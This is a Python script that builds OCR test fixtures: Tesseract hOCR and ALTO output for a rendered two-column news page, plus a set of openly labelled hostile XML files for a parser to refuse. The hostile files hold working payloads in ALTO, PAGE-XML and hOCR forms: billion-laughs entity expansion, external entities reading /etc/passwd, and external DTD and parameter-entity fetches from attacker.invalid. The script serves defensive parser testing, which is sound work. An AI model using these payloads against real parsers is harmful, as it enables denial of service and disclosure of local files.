"""Write the XML fixtures under ``fixtures/xml/``: other engines' ALTO/hOCR and hostile files.

Why a script: the hOCR and ALTO must be real Tesseract output (the format as it is in
the wild, quirks included), so a small two-column page is rendered with DejaVu and
read by the installed ``tesseract`` (``tesseract IMG BASE hocr`` / ``alto``). An ALTO
2.1 copy in ``mm10`` units is derived from Tesseract's ALTO to exercise the unit
conversion and the older namespace. The hostile files are the classic XML attacks
that the reader must refuse. Run ``python scripts/make_xml_fixtures.py``; Tesseract's
output can vary between Tesseract versions, so rerun it after upgrading Tesseract.
"""

from __future__ import annotations

import re
import subprocess
import sys
import tempfile
from pathlib import Path

from PIL import Image, ImageDraw, ImageFont

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "fixtures" / "xml"
DJ = "/usr/share/fonts/truetype/dejavu/"
DPI = 150
V2_XSD = "http://www.loc.gov/alto/v2/alto-2-1.xsd"
HEADLINE = "HARBOR STRIKE ENDS"
COLUMNS = [
    [
        "The towing companies agreed",
        "last night to take back the",
        "men who left the docks on",
        "Monday, and work in the har-",
        "bor will begin again today.",
    ],
    [
        "Ferry service was not cut off",
        "during the strike, but freight",
        "piled up on every pier along",
        "the river front, and the city",
        "lost a great deal of money.",
    ],
]

HOSTILE = {
    "billion-laughs.xml": """<?xml version="1.0"?>
<!DOCTYPE alto [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alto xmlns="http://www.loc.gov/standards/alto/ns-v4#"><Layout><Page ID="p" PHYSICAL_IMG_NR="1">
<PrintSpace><TextBlock ID="b"><TextLine><String CONTENT="&lol9;"/></TextLine></TextBlock>
</PrintSpace></Page></Layout></alto>
""",
    "xxe-file.xml": """<?xml version="1.0"?>
<!DOCTYPE alto [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<alto xmlns="http://www.loc.gov/standards/alto/ns-v4#"><Layout><Page ID="p" PHYSICAL_IMG_NR="1">
<PrintSpace><TextBlock ID="b"><TextLine><String CONTENT="x"/></TextLine></TextBlock>
</PrintSpace></Page></Layout>
<Tags><OtherTag ID="t" LABEL="&secret;"/></Tags></alto>
""",
    "dtd-network.xml": """<?xml version="1.0"?>
<!DOCTYPE alto SYSTEM "http://attacker.invalid/alto.dtd">
<alto xmlns="http://www.loc.gov/standards/alto/ns-v4#"><Layout><Page ID="p" PHYSICAL_IMG_NR="1">
<PrintSpace><TextBlock ID="b"><TextLine><String CONTENT="x"/></TextLine></TextBlock>
</PrintSpace></Page></Layout></alto>
""",
    "parameter-entity.xml": """<?xml version="1.0"?>
<!DOCTYPE alto [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
  %remote;
]>
<alto xmlns="http://www.loc.gov/standards/alto/ns-v4#"><Layout><Page ID="p" PHYSICAL_IMG_NR="1">
<PrintSpace><TextBlock ID="b"><TextLine><String CONTENT="x"/></TextLine></TextBlock>
</PrintSpace></Page></Layout></alto>
""",
    # The same attacks in PAGE-XML (PcGts): sniffed as PAGE, refused by the same parser.
    "page-billion-laughs.xml": """<?xml version="1.0"?>
<!DOCTYPE PcGts [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<PcGts xmlns="http://schema.primaresearch.org/PAGE/gts/pagecontent/2019-07-15">
<Page imageFilename="p.png" imageWidth="10" imageHeight="10"><TextRegion id="r">
<Coords points="0,0 9,0 9,9 0,9"/><TextEquiv><Unicode>&lol9;</Unicode></TextEquiv>
</TextRegion></Page></PcGts>
""",
    "page-xxe-file.xml": """<?xml version="1.0"?>
<!DOCTYPE PcGts [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<PcGts xmlns="http://schema.primaresearch.org/PAGE/gts/pagecontent/2019-07-15">
<Page imageFilename="p.png" imageWidth="10" imageHeight="10"><TextRegion id="r">
<Coords points="0,0 9,0 9,9 0,9"/><TextEquiv><Unicode>&secret;</Unicode></TextEquiv>
</TextRegion></Page></PcGts>
""",
    "page-dtd-network.xml": """<?xml version="1.0"?>
<!DOCTYPE PcGts SYSTEM "http://attacker.invalid/page.dtd">
<PcGts xmlns="http://schema.primaresearch.org/PAGE/gts/pagecontent/2019-07-15">
<Page imageFilename="p.png" imageWidth="10" imageHeight="10"><TextRegion id="r">
<Coords points="0,0 9,0 9,9 0,9"/><TextEquiv><Unicode>x</Unicode></TextEquiv>
</TextRegion></Page></PcGts>
""",
    "entity.hocr": """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<html xmlns="http://www.w3.org/1999/xhtml"><body><div class="ocr_page" title="bbox 0 0 10 10">
<span class="ocr_line" title="bbox 0 0 10 10">
<span class="ocrx_word" title="bbox 0 0 10 10">&secret;</span></span></div></body></html>
""",
}


def render(path: Path) -> None:
    """A 2-column page at 150 dpi: headline across, body in two columns."""
    img = Image.new("L", (1000, 460), 255)
    draw = ImageDraw.Draw(img)
    head = ImageFont.truetype(DJ + "DejaVuSerif-Bold.ttf", 44)
    body = ImageFont.truetype(DJ + "DejaVuSerif.ttf", 21)
    draw.text((200, 30), HEADLINE, font=head, fill=0)
    draw.line((40, 108, 960, 108), fill=0, width=3)
    for c, lines in enumerate(COLUMNS):
        x = 40 + c * 480
        for n, text in enumerate(lines):
            draw.text((x + (28 if n == 0 else 0), 135 + n * 34), text, font=body, fill=0)
    img.save(path, dpi=(DPI, DPI))


def tesseract(image: Path, fmt: str) -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        base = Path(tmp) / "out"
        subprocess.run(  # run beside the image so the output names it without a local path
            ["tesseract", image.name, str(base), "-l", "eng", "--dpi", str(DPI), fmt],
            cwd=image.parent,
            check=True,
            capture_output=True,
            timeout=120,
        )
        suffix = {"hocr": ".hocr", "alto": ".xml"}[fmt]
        return base.with_suffix(suffix).read_bytes()


def alto2_mm10(alto3: bytes, dpi: float = 300.0) -> bytes:
    """Tesseract's ALTO re-expressed as ALTO 2.1 in tenths of a millimetre (at ``dpi``).

    The pixel values are scaled as if the page had been scanned at ``dpi``, which is
    what ``read_alto(..., dpi=dpi)`` assumes when it converts back to pixels.
    """
    text = alto3.decode("utf-8")
    ns = "http://www.loc.gov/standards/alto/ns-v"
    text = re.sub(re.escape(ns) + r"\d#", ns + "2#", text)
    text = re.sub(r"http://www\.loc\.gov/alto/v\d/alto-\d-\d\.xsd", V2_XSD, text)
    text = text.replace(">pixel</MeasurementUnit>", ">mm10</MeasurementUnit>")

    def scale(m: re.Match[str]) -> str:
        return f'{m.group(1)}="{float(m.group(2)) * 254.0 / dpi:.2f}"'

    text = re.sub(r'\b(HPOS|VPOS|WIDTH|HEIGHT)="([0-9.]+)"', scale, text)
    return text.encode("utf-8")


def main() -> int:
    OUT.mkdir(parents=True, exist_ok=True)
    (OUT / "hostile").mkdir(exist_ok=True)
    image = OUT / "tesseract-2col.png"
    render(image)
    (OUT / "tesseract-2col.hocr").write_bytes(tesseract(image, "hocr"))
    alto = tesseract(image, "alto")
    (OUT / "tesseract-2col.alto.xml").write_bytes(alto)
    (OUT / "tesseract-2col.alto2-mm10.xml").write_bytes(alto2_mm10(alto))
    for name, text in HOSTILE.items():
        (OUT / "hostile" / name).write_text(text, encoding="utf-8")
    print(f"wrote fixtures to {OUT}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
